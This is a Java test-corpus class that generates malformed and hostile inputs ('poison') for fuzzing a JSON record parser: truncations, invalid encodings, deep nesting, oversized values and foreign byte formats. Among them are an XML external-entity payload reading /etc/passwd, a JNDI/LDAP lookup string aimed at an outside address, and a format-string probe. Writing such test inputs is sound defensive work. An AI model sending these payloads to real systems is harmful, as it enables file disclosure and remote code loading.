package io.sluice.faults.poison;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/** Written poison: what disks, editors, proxies, other programs and people with bad intent leave where a record is expected. */
public final class Corpus {
    private static final int HUGE = 900_000;
    private static final String[] WRONG_VALUES = {
        "null",
        "\"\"",
        "[]",
        "{}",
        "true",
        "-1",
        "1.5",
        "1e400",
        "-0",
        "9223372036854775808",
        "NaN",
        "\"NaN\"",
        "\"7\"",
        "\"\\u0000\"",
        "\"\\ud800\"",
        "\"\u007f\\n\\r\"",
        "[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]",
        "00",
        "0x1F"
    };

    private Corpus() {}

    /** What is a record of none of our topics, by name. */
    public static Map<String, byte[]> anywhere() {
        Map<String, byte[]> corpus = new LinkedHashMap<>();
        texts().forEach((name, text) -> corpus.put(name, utf8(text)));
        corpus.put("invalid byte", new byte[] {(byte) 0xff});
        corpus.put("zeros", new byte[100]);
        corpus.put("byte order mark alone", new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf});
        corpus.put("gzip", gzip(utf8("{\"time\":1,\"caller\":\"a\"}")));
        corpus.put("avro", new byte[] {0, 0, 0, 0, 7, 2, 'a', 4});
        corpus.put("avro file", new byte[] {'O', 'b', 'j', 1, 4, 20});
        corpus.put("protobuf", new byte[] {10, 4, 'a', 'c', 'm', 'e', 16, 42});
        corpus.put("java object", new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 't', 0, 1, 'a'});
        corpus.put("message pack", new byte[] {(byte) 0x82, (byte) 0xa1, 'a', 1, (byte) 0xa1, 'b', 2});
        corpus.put("cbor", new byte[] {(byte) 0xa1, 0x61, 'a', 1});
        return corpus;
    }

    private static Map<String, String> texts() {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("empty", "");
        texts.put("blank", " \t\r\n");
        texts.put("null", "null");
        texts.put("true", "true");
        texts.put("number", "42");
        texts.put("string", "\"hello\"");
        texts.put("word", "hello");
        texts.put("list", "[]");
        texts.put("list of objects", "[{},{}]");
        texts.put("watch of no policy", "[\"$watch\",\"\"]");
        texts.put("watch of the spread", "[\"$watch\",\"$spread\"]");
        texts.put("open brace", "{");
        texts.put("close brace", "}");
        texts.put("nothing in it", "{}");
        texts.put("name alone", "{\"time\"}");
        texts.put("no value", "{\"time\":}");
        texts.put("comma alone", "{,}");
        texts.put("single quotes", "{'time':1}");
        texts.put("no quotes", "{time:1}");
        texts.put("deep list", "[".repeat(5_000));
        texts.put("deep closed list", "[".repeat(5_000) + "]".repeat(5_000));
        texts.put("deep object", "{\"a\":".repeat(100_000));
        texts.put("huge string", "{\"caller\":\"" + "x".repeat(HUGE) + "\"}");
        texts.put("huge name", "{\"" + "x".repeat(HUGE) + "\":1}");
        texts.put("huge number", "{\"time\":" + "9".repeat(HUGE) + "}");
        texts.put("huge blank", " ".repeat(HUGE));
        texts.put("huge list", "[" + "1,".repeat(HUGE / 2) + "1]");
        texts.put("many names", "{" + "\"a\":1,".repeat(HUGE / 6) + "\"b\":1}");
        texts.put("html", "<html><body>502 Bad Gateway</body></html>");
        texts.put("xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>");
        texts.put("yaml", "time: 1\ncaller: acme\n");
        texts.put("log line", "203.0.113.9 - - [12/May/2024:00:00:17 +0000] \"GET / HTTP/1.1\" 200 59");
        texts.put("lookup", "${jndi:ldap://203.0.113.9/a}");
        texts.put("format", "%s%n%1$s{}");
        texts.put("line breaks", "\r\n\r\n");
        texts.put("separators", "\u2028\u2029\u0085");
        texts.put("right to left", "\u202e}1:\"emit\"{");
        return texts;
    }

    /** What a sound JSON object of ours can become, by name; where a field is not minded, it may still be sound. */
    public static Map<String, byte[]> of(String sound) {
        Map<String, byte[]> corpus = new LinkedHashMap<>();
        corpus.put("cut in the middle", utf8(sound.substring(0, sound.length() / 2)));
        corpus.put("cut before its end", utf8(sound.substring(0, sound.length() - 1)));
        corpus.put("cut at its begin", utf8(sound.substring(1)));
        corpus.put("twice", utf8(sound + sound));
        corpus.put("junk behind", utf8(sound + "x"));
        corpus.put("NUL behind", utf8(sound + "\u0000"));
        corpus.put("comma behind", utf8(sound.substring(0, sound.length() - 1) + ",}"));
        corpus.put("comment", utf8("/* */" + sound));
        corpus.put("in a list", utf8("[" + sound + "]"));
        corpus.put("in a string", utf8("\"" + sound.replace("\"", "\\\"") + "\""));
        corpus.put("byte order mark", utf8("\ufeff" + sound));
        corpus.put("UTF-16", sound.getBytes(StandardCharsets.UTF_16));
        corpus.put("UTF-16, little", sound.getBytes(StandardCharsets.UTF_16LE));
        corpus.put("gzip of it", gzip(utf8(sound)));
        corpus.put("control characters", utf8(sound.replaceFirst(":\"", ":\"\u0001\u001f")));
        corpus.put("invalid UTF-8", with(sound, (byte) 0xff));
        corpus.put("overlong UTF-8", with(sound, (byte) 0xc0, (byte) 0x80));
        corpus.put("UTF-8 cut short", with(sound, (byte) 0xe2, (byte) 0x82));
        corpus.put("UTF-8 of a surrogate", with(sound, (byte) 0xed, (byte) 0xa0, (byte) 0x80));
        corpus.put("upside down", utf8(new StringBuilder(sound).reverse().toString()));
        corpus.put("padded", utf8(sound + " ".repeat(HUGE)));
        for (String field : fields(sound)) {
            corpus.put(field + " twice", utf8("{" + member(sound, field) + "," + sound.substring(1)));
            corpus.put("no " + field, utf8(without(sound, field)));
            for (String wrong : WRONG_VALUES) {
                corpus.put(field + " " + wrong, utf8(sound.replace(member(sound, field), name(field) + wrong)));
            }
            corpus.put(
                    field + " long",
                    utf8(sound.replace(member(sound, field), name(field) + "\"" + "x".repeat(9_000) + "\"")));
        }
        return corpus;
    }

    private static byte[] with(String sound, byte... bytes) {
        int at = sound.indexOf(":\"") + 2;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(utf8(sound.substring(0, at)));
        out.writeBytes(bytes);
        out.writeBytes(utf8(sound.substring(at)));
        return out.toByteArray();
    }

    private static String name(String field) {
        return "\"" + field + "\":";
    }

    /** The names of the object's own fields. */
    private static List<String> fields(String sound) {
        List<String> fields = new ArrayList<>();
        int at = 1;
        while (at < sound.length() && sound.charAt(at) == '"') {
            int end = sound.indexOf('"', at + 1);
            fields.add(sound.substring(at + 1, end));
            at = endOfValue(sound, end + 2) + 1;
        }
        return fields;
    }

    private static String member(String sound, String field) {
        int at = sound.indexOf(name(field));
        return sound.substring(at, endOfValue(sound, at + name(field).length()));
    }

    private static String without(String sound, String field) {
        String member = member(sound, field);
        return sound.contains(member + ",") ? sound.replace(member + ",", "") : sound.replace("," + member, "");
    }

    private static int endOfValue(String json, int from) {
        int depth = 0;
        boolean quoted = false;
        int at = from;
        while (at < json.length()) {
            char next = json.charAt(at);
            if (next == '"' && json.charAt(at - 1) != '\\') {
                quoted = !quoted;
            } else if (!quoted && (next == '{' || next == '[')) {
                depth++;
            } else if (!quoted && depth == 0 && (next == ',' || next == '}')) {
                return at;
            } else if (!quoted && (next == '}' || next == ']')) {
                depth--;
            }
            at++;
        }
        return at;
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(out)) {
            zip.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
